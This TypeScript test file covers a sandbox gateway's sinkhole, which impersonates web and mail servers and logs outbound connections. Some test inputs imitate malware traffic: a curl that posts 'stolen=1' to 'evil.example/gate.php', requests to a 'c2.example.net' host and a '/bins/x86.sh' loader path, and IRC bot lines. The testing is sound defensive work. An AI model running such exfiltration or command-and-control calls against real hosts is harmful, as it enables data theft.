import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { createSecureContext } from "node:tls";
import { promisify } from "node:util";
import type { NetworkFact } from "../../gateway/model/network-facts.ts";
import { OUTPOST_PORTS } from "../../gateway/model/outpost-messages.ts";
import { Flows, LOG_WAIT, type LedAway } from "../../gateway/outpost/flows.ts";
import { SandboxNetwork } from "../../gateway/outpost/sandbox-network.ts";
import { Sinkhole } from "../../gateway/outpost/sinkhole.ts";
import { outpostCertificate } from "../../gateway/warden/outpost-certificate.ts";
import { parseOutpostMessage } from "../../gateway/warden/outpost-messages.ts";

const run = promisify(execFile);
const OUTPOST = "127.77.1.1";
const BOX = "127.77.1.9";
/** For what happens in a moment where the machine is not busy; milliseconds. */
const PATIENCE = 60_000;
const { tcp: OPEN, smtp: SMTP, smtps: SMTPS, udp: UDP } = OUTPOST_PORTS;

const told: NetworkFact[] = [];
const flows = new Flows(({ rule, protocol, from, to }) => {
  told.push({ kind: "network", rule, protocol, from, to, count: 1 });
});
let folder = "";
let sinkhole: Sinkhole;

before(async () => {
  folder = await mkdtemp(join(tmpdir(), "mitsubako-sinkhole-"));
  const { key, certificate } = await outpostCertificate(folder);
  sinkhole = await Sinkhole.open({
    address: OUTPOST,
    network: new SandboxNetwork("127.0.0.0/8"),
    tls: createSecureContext({ key, cert: certificate }),
    flows,
    hostAt: (address) => (address === "5.6.7.8" ? "smtp.example.com" : undefined),
    tell: (fact, { sandbox, mac }) => {
      assert.equal(sandbox?.startsWith("127.77.1."), true);
      assert.ok(parseOutpostMessage({ kind: "fact", sandbox, mac, fact }), JSON.stringify(fact));
      told.push(fact);
    },
  });
});
after(async () => {
  await sinkhole[Symbol.asyncDispose]();
  await rm(folder, { recursive: true });
});

const curl = async (url: string, ...args: string[]) =>
  (await run("curl", ["-sik", "--max-time", "10", "--interface", BOX, ...args, url])).stdout;

async function open(port: number, from = BOX): Promise<Socket> {
  const socket = connect({ host: OUTPOST, port, localAddress: from });
  socket.on("error", () => undefined);
  await once(socket, "connect");
  return socket;
}

/** By the other side, within a moment. */
async function isEnded(socket: Socket): Promise<boolean> {
  await sleep(100);
  return socket.closed || socket.readableEnded;
}

async function eventually<T>(what: string, look: () => T | undefined): Promise<T> {
  for (const end = performance.now() + PATIENCE; performance.now() < end;) {
    const found = look();
    if (found !== undefined) return found;
    await sleep(20);
  }
  throw new Error(`${what}: not within ${PATIENCE} ms; told was ${JSON.stringify(told.slice(-5))}`);
}

/** Waits until it is told; by the port that it came from, as facts of other connections may be under way. */
function factOf(from: number | undefined): Promise<NetworkFact> {
  return eventually(`the fact of port ${from ?? "?"}`, () => told.find((fact) => fact.from === from));
}

/** By the name that the connection was for: facts of others wait for a log that is not there. */
function factOfName(name: string): Promise<NetworkFact> {
  return eventually(`the fact of ${name}`, () => told.find((fact) => fact.name === name));
}

function ledAway(from: number, to: LedAway["to"], protocol: LedAway["protocol"] = "tcp"): LedAway {
  return { rule: "sinkhole", sandbox: BOX, protocol, from, to, mac: "52:54:00:ab:cd:ef" };
}

describe("a web server, as curl sees it", () => {
  it("has one page, and says of others that they are not there", async () => {
    const home = await curl(`http://${OUTPOST}:${OPEN}/`);
    assert.match(
      home,
      /^HTTP\/1\.1 200 OK\r\nServer: nginx\/[\d.]+\r\nDate: [A-Z][a-z]{2}, \d\d [^\r]+ GMT\r\n/,
    );
    assert.match(home, /<\/html>\n$/);
    const missing = await curl(`http://${OUTPOST}:${OPEN}/bins/x86.sh`);
    assert.match(missing, /^HTTP\/1\.1 404 Not Found\r\n[^]*<center>nginx\/[\d.]+<\/center>/);
  });

  it("the fact has the host that was asked for and the request", async () => {
    await curl("http://evil.example/gate.php?id=7", "--connect-to", `::${OUTPOST}:${OPEN}`, "-d", "stolen=1");
    const fact = await factOfName("evil.example");
    assert.deepEqual([fact.rule, fact.protocol, fact.name], ["sinkhole", "tcp", "evil.example"]);
    assert.deepEqual(fact.to, { address: "0.0.0.0", port: 80 });
    assert.match(
      fact.data ?? "",
      /^POST \/gate\.php\?id=7 HTTP\/1\.1\r\nHost: evil\.example\r\n[^]*stolen=1$/,
    );
    assert.equal(fact.size, fact.data?.length);
  });

  it("one connection serves many requests, with bodies between; who asks before it uploads is answered", async () => {
    const { stdout } = await run("curl", [
      ...["-sv", "--max-time", "10", "--interface", BOX, "-d", "a=1", `http://${OUTPOST}:${OPEN}/x`],
      ...["--next", "-sv", "--interface", BOX, `http://${OUTPOST}:${OPEN}/`],
      ...["--next", "-sI", "--interface", BOX, `http://${OUTPOST}:${OPEN}/`],
      ...["-w", "%{num_connects}"],
    ]);
    assert.match(stdout, /404 Not Found[^]*It works[^]*HTTP\/1\.1 200 OK[^]*0$/);
    const upload = await curl(
      `http://${OUTPOST}:${OPEN}/up`,
      "-T",
      process.execPath,
      "-H",
      "Expect: 100-continue",
      "-r",
      "0-99",
    ).catch((error: unknown) => (error as { stdout: string }).stdout);
    assert.match(upload, /^HTTP\/1\.1 100 Continue\r\n\r\nHTTP\/1\.1 405 Not Allowed/);
  });

  it("inside TLS the same, and the name is that of the TLS", async () => {
    const page = await curl("https://c2.example.net/", "--connect-to", `::${OUTPOST}:${OPEN}`);
    assert.match(page, /200 OK/);
    const fact = await factOfName("c2.example.net");
    assert.equal(fact.to.port, 443);
    assert.match(fact.data ?? "", /^GET \/ HTTP\/1\.1\r\n/);
  });

  it("a client that does not like the certificate has told the name all the same", async () => {
    await assert.rejects(
      run("curl", [
        "-s",
        "--interface",
        BOX,
        "https://pinned.example/",
        "--connect-to",
        `::${OUTPOST}:${OPEN}`,
      ]),
      (error: { code: number }) => error.code === 60,
    );
    const fact = await factOfName("pinned.example");
    assert.equal(fact.data?.charCodeAt(0), 0x16);
  });

  it("openssl sees a P-256 certificate of nobody's, for ten years", async () => {
    const { stdout } = await run("sh", [
      "-c",
      `openssl s_client -bind ${BOX}:0 -connect ${OUTPOST}:${OPEN} </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer -text -dates`,
    ]);
    assert.match(stdout, /subject=CN = localhost\nissuer=CN = localhost/);
    assert.match(stdout, /prime256v1/);
    const [from = NaN, until = NaN] = [...stdout.matchAll(/not(?:Before|After)=(.+)/g)].map(([, date = ""]) =>
      Date.parse(date),
    );
    assert.equal(Math.round((until - from) / 86_400_000), 3650);
  });

  it("what is no HTTP after all is a bad request, and what is nothing known gets no answer", async () => {
    for (const [said, answer] of [
      ["GET /\r\n\r\n", /^HTTP\/1\.1 400 Bad Request/],
      ["GET / HTTP/1.1\r\n\r\n", /^HTTP\/1\.1 400 Bad Request/],
      ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", /^HTTP\/1\.1 400 Bad Request/],
      [`GET / HTTP/1.1\r\nX: ${"x".repeat(9000)}`, /^HTTP\/1\.1 400 Bad Request/],
      ["NICK bot\r\nUSER bot 8 * :bot\r\n", /^$/],
      ["SSH-2.0-Go\r\n", /^$/],
      ["\0\0\0\x01", /^$/],
    ] as const) {
      const socket = await open(OPEN);
      const chunks: Buffer[] = [];
      socket.on("data", (chunk: Buffer) => chunks.push(chunk));
      const from = socket.localPort;
      socket.write(said, "latin1");
      const heard = () => Buffer.concat(chunks).toString("latin1");
      // Silence is what there is to see after a while; an answer is waited for.
      if (answer.test("")) await sleep(150);
      else
        await eventually(`an answer to ${said.slice(0, 20)}`, () =>
          answer.test(heard()) ? true : undefined,
        );
      socket.destroy();
      assert.match(heard(), answer, said.slice(0, 20));
      const fact = await factOf(from);
      assert.equal(fact.data, said.slice(0, 1024));
      assert.equal(fact.size, said.length);
    }
  });
});

describe("a mail server, as Python's smtplib sees it", () => {
  it("takes a mail after a login inside TLS, and another in the clear", async () => {
    const script = `
import smtplib, ssl, sys
loose = ssl._create_unverified_context()
source = ("${BOX}", 0)
def send(mail):
    refused = mail.sendmail("a@example.com", ["b@example.org", "c@example.org"], "Subject: x\\n\\nhello\\n.leading dot\\n")
    assert refused == {}, refused
with smtplib.SMTP("${OUTPOST}", ${SMTP}, timeout=10, source_address=source) as mail:
    assert mail.ehlo()[0] == 250 and mail.has_extn("starttls"), mail.esmtp_features
    mail.starttls(context=loose)
    assert mail.login("victim", "secret")[0] == 235
    assert not mail.has_extn("starttls")
    send(mail); send(mail)
    assert mail.noop()[0] == 250 and mail.rset()[0] == 250
with smtplib.SMTP("${OUTPOST}", ${SMTP}, timeout=10, source_address=source) as mail:
    mail.user, mail.password = "victim", "secret"
    mail.ehlo()
    assert mail.auth("LOGIN", mail.auth_login)[0] == 235
    send(mail)
with smtplib.SMTP_SSL("${OUTPOST}", ${SMTPS}, timeout=10, source_address=source, context=loose) as mail:
    send(mail)
with smtplib.SMTP("${OUTPOST}", ${SMTP}, timeout=10, source_address=source) as mail:
    assert mail.docmd("DATA")[0] == 503 and mail.docmd("MAIL FROM:<a>")[0] == 503
    assert mail.docmd("HELO x")[0] == 250 and mail.docmd("RCPT TO:<a>")[0] == 503
    assert mail.docmd("FOO")[0] == 502
print("all taken")
`;
    const { stdout } = await run("python3", ["-c", script]);
    assert.equal(stdout, "all taken\n");
    const mails = () => told.filter(({ to }) => to.port === 25 || to.port === 465);
    await eventually("four facts", () => (mails().length >= 4 ? true : undefined));
    await sleep(LOG_WAIT + 100);
    const facts = mails();
    assert.equal(facts.length, 4);
    assert.deepEqual(facts.map(({ to }) => to.port).toSorted(), [25, 25, 25, 465]);
    assert.ok(facts.every(({ data }) => data && /^ehlo |^HELO |^DATA/.test(data)));
    // What was said inside TLS is kept, not its handshake.
    assert.ok(facts.some(({ data }) => data?.includes("AUTH ") === true && data.includes("Subject: x")));
  });

  it("speaks first, in the name of the host that was wanted, and hears who does not wait", async () => {
    const socket = connect({ host: OUTPOST, port: SMTP, localAddress: BOX });
    const chunks: Buffer[] = [];
    socket.on("data", (chunk: Buffer) => chunks.push(chunk));
    await once(socket, "connect");
    const from = socket.localPort ?? 0;
    socket.write("EHLO x\r\nMAIL FROM:<a@b>\r\nQUIT\r\n");
    flows.logged(ledAway(from, { address: "5.6.7.8", port: 2525 }));
    await once(socket, "close");
    const text = Buffer.concat(chunks).toString();
    assert.match(text, /^220 smtp\.example\.com ESMTP Postfix\r\n250-smtp\.example\.com\r\n/);
    assert.match(text, /250 2\.1\.0 Ok\r\n221 2\.0\.0 Bye\r\n$/);
    assert.deepEqual((await factOf(from)).to, { address: "5.6.7.8", port: 2525 });
  });

  it("a line without an end, and nonsense, are borne for a while", async () => {
    const socket = await open(SMTP);
    let text = "";
    socket.on("data", (chunk) => (text += String(chunk)));
    await once(socket, "data");
    socket.write("x".repeat(100_000));
    socket.write(`\r\n${"bogus\r\n".repeat(100)}`);
    await once(socket, "close");
    assert.equal(text.match(/^502 /gm)?.length, 19);
    assert.match(text, /421 4\.7\.0 [^\r]+ too many errors\r\n$/);
  });
});

describe("each connection is told once", () => {
  it("with the address that it was for, when the log says so before or shortly after", async () => {
    const socket = await open(OPEN);
    const from = socket.localPort ?? 0;
    socket.end("hello");
    await sleep(100);
    assert.ok(!told.some((fact) => fact.from === from), "not without having waited for the log");
    flows.logged(ledAway(from, { address: "1.2.3.4", port: 6667 }));
    const fact = await factOf(from);
    assert.deepEqual(fact, {
      ...{ kind: "network", rule: "sinkhole", protocol: "tcp", from, count: 1 },
      ...{ to: { address: "1.2.3.4", port: 6667 }, data: "hello", size: 5 },
    });
    flows.tick();
    await sleep(100);
    assert.equal(told.filter((each) => each.from === from).length, 1);
  });

  it("after two seconds at the latest, with what had come; and no second time at its end", async () => {
    const socket = await open(OPEN);
    const from = socket.localPort ?? 0;
    socket.write("x".repeat(3000));
    const started = performance.now();
    const fact = await factOf(from);
    const waited = performance.now() - started;
    assert.ok(waited > 1500, `${waited} ms`);
    assert.deepEqual([fact.data?.length, fact.size], [1024, 3000]);
    socket.end("more");
    await once(socket, "close");
    await sleep(400);
    assert.equal(told.filter((each) => each.from === from).length, 1);
  });

  it("a datagram is told with what it says, and is not answered", async () => {
    const socket = createSocket("udp4");
    await new Promise<void>((resolve) => {
      socket.bind(0, BOX, resolve);
    });
    let answered = false;
    socket.on("message", () => (answered = true));
    const from = socket.address().port;
    flows.logged(ledAway(from, { address: "9.8.7.6", port: 123 }, "udp"));
    socket.send(Buffer.alloc(2000, "n"), UDP, OUTPOST);
    const fact = await factOf(from);
    socket.close();
    assert.deepEqual(
      [fact.protocol, fact.to, fact.data?.length, fact.size],
      ["udp", { address: "9.8.7.6", port: 123 }, 1024, 2000],
    );
    assert.equal(answered, false);
  });
});

describe("bounds of the sinkhole", () => {
  it("so many connections of one sandbox, and others still have theirs", async () => {
    const many = "127.77.1.50";
    const sockets = await Promise.all(Array.from({ length: 40 }, () => open(OPEN, many)));
    const alive = () => sockets.filter((socket) => !socket.closed && !socket.readableEnded);
    await eventually("32 connections", () => (alive().length <= 32 ? true : undefined));
    await sleep(300);
    assert.equal(alive().length, 32);
    const other = await open(OPEN, "127.77.1.51");
    other.write("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    const [answer] = (await once(other, "data")) as [Buffer];
    assert.match(answer.toString(), /^HTTP\/1\.1 200/);
    for (const socket of [...sockets, other]) socket.destroy();
    let again = await open(OPEN, many);
    for (let tries = 0; tries < 100 && (await isEnded(again)); tries++) again = await open(OPEN, many);
    assert.ok(!again.closed && !again.readableEnded, "what ended makes room");
    again.destroy();
  });

  it("so many in all", async () => {
    const sockets: Socket[] = [];
    for (let box = 60; box < 77; box++)
      sockets.push(...(await Promise.all(Array.from({ length: 32 }, () => open(OPEN, `127.77.1.${box}`)))));
    const alive = () => sockets.filter((socket) => !socket.closed && !socket.readableEnded);
    await eventually("512 connections", () => (alive().length <= 512 ? true : undefined));
    await sleep(300);
    assert.equal(alive().length, 512);
    for (const socket of sockets) socket.destroy();
    await sleep(1000);
  });

  it("so many bytes of one connection, in the clear and inside TLS", async () => {
    const socket = await open(OPEN);
    const from = socket.localPort;
    const flood = setInterval(() => socket.write(Buffer.alloc(65_536, 1)), 1);
    await once(socket, "close");
    clearInterval(flood);
    const { size = 0 } = await factOf(from);
    assert.ok(size > 2 ** 20 && size < 2 ** 20 + 2 ** 17, `${size}`);
    const { stdout } = await run("sh", [
      "-c",
      `head -c 3000000 /dev/zero | timeout 20 openssl s_client -quiet -bind ${BOX}:0 -connect ${OUTPOST}:${OPEN} 2>/dev/null | wc -c; true`,
    ]);
    assert.equal(stdout.trim(), "0");
    await eventually("what came inside TLS", () =>
      told.find(
        ({ to, size: inside = 0 }) => to.port === 443 && inside > 2 ** 20 && inside < 2 ** 20 + 2 ** 17,
      ),
    );
  });

  it("who asks and asks without reading is cut off", async () => {
    const socket = await open(OPEN);
    socket.pause();
    const from = socket.localPort;
    for (let count = 0; count < 200 && !socket.destroyed; count++) {
      socket.write("GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(2000));
      await sleep(5);
    }
    socket.resume();
    if (!socket.closed) await once(socket, "close");
    const { size = 0 } = await factOf(from);
    assert.ok(size < 2 ** 20 + 2 ** 17, `${size}`);
  });

  it("hostile bytes end nothing but their own connection", async () => {
    let block = Buffer.from("hostile bytes");
    const random = () => (block = createHash("shake256", { outputLength: 200 }).update(block).digest());
    for (const port of [OPEN, SMTP, SMTPS]) {
      for (const start of [
        "",
        "\x16\x03\x01\x02\x00\x01",
        "\x16",
        "GET ",
        "POST / HTTP/1.1\r\nContent-Length: ",
        "STARTTLS\r\n",
      ]) {
        const socket = await open(port);
        socket.write(Buffer.concat([Buffer.from(start, "latin1"), random()]));
        await sleep(20);
        if (start.length % 2 === 0) socket.resetAndDestroy();
        else socket.destroy();
      }
    }
    assert.match(await curl(`http://${OUTPOST}:${OPEN}/`), /200 OK/);
  });
});

describe("the certificate", () => {
  it("is made once, and its key is root's alone", async () => {
    const first = await outpostCertificate(folder);
    assert.deepEqual(await outpostCertificate(folder), first);
    assert.deepEqual(await readdir(join(folder, "keys")), ["outpost"]);
    assert.equal((await stat(join(folder, "keys/outpost"))).mode & 0o777, 0o700);
    assert.equal((await stat(join(folder, "keys/outpost/key.pem"))).mode & 0o777, 0o600);
    assert.equal(await readFile(join(folder, "keys/outpost/key.pem"), "utf8"), first.key);
  });

  it("without openssl it is said what is missing", async () => {
    const { PATH } = process.env;
    process.env["PATH"] = "/nonexistent";
    try {
      await assert.rejects(outpostCertificate(join(folder, "other")), { code: "tool-missing" });
    } finally {
      process.env["PATH"] = PATH;
    }
    assert.deepEqual(await readdir(join(folder, "other/keys")), []);
  });
});
